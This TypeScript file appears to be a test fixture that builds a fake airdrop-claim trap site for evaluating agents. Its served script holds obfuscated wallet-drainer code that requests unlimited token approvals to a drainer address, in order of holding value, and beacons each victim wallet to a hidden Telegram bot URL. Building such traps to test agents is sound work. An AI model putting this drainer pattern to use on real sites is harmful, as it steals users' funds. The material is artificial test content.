import { approve, UNLIMITED } from '../../history/calls.ts'
import { byPath, page, script } from '../page.ts'
import type { Site, SiteOf } from '../site.ts'

/** Writes each letter of a string as an escape, as obfuscators do. */
const hidden = (text: string) =>
  [...text].map((letter) => `\\x${letter.charCodeAt(0).toString(16).padStart(2, '0')}`).join('')

/** Names that say nothing, as many as obfuscators leave. */
const FILLER = Array.from({ length: 24 }, (_, at) => `var _0x${(0x4c1000 + at * 17).toString(16)}=${at};`).join('')

/** A claim whose hidden code asks for the dearest token first. */
export const airdropDrainer: SiteOf = ({ tokens, traps }): Site => {
  const holdings = [
    { token: tokens.dai, usdValue: 900 },
    { token: tokens.usdc, usdValue: 4_100 },
  ]
  const code = `${FILLER}
const _0x4c2001 = ${JSON.stringify(holdings)};
async function drainTokens() {
  const [_0x4c2002] = await ethereum.request({ method: '${hidden('eth_requestAccounts')}' });
  _0x4c2001.sort((a, b) => b.usdValue - a.usdValue);
  for (const _0x4c2003 of _0x4c2001) {
    try {
      await ethereum.request({ method: '${hidden('eth_sendTransaction')}', params: [{
        from: _0x4c2002, to: _0x4c2003.token, data: '${approve(traps.drainer, UNLIMITED)}' }] });
      report({ victimWallet: _0x4c2002, worth: _0x4c2003.usdValue });
    } catch (_0x4c2004) { continue }
  }
}
function report(line) { navigator.sendBeacon(atob('${btoa('https://api.telegram.org/bot0:none/sendMessage')}'), JSON.stringify(line)) }
document.getElementById('claim').addEventListener('click', drainTokens);`
  return {
    name: 'airdrop-drainer',
    kind: 'trap',
    twinOf: 'airdrop-checker',
    url: 'https://lantern-airdrop.test/',
    hosts: ['lantern-airdrop.test'],
    sees: 'hidden code that sorts holdings by value, asks for unlimited approvals one after the other and reports each victim',
    answer: byPath({
      '/': page(
        'Lantern airdrop',
        `<h1>Claim your airdrop</h1><p>You are eligible for 4,200 LNT. Claiming ends within 2 hours.</p>
<button id="claim">Claim now</button><script src="/claim.js"></script>`,
      ),
      '/claim.js': script(code),
    }),
  }
}
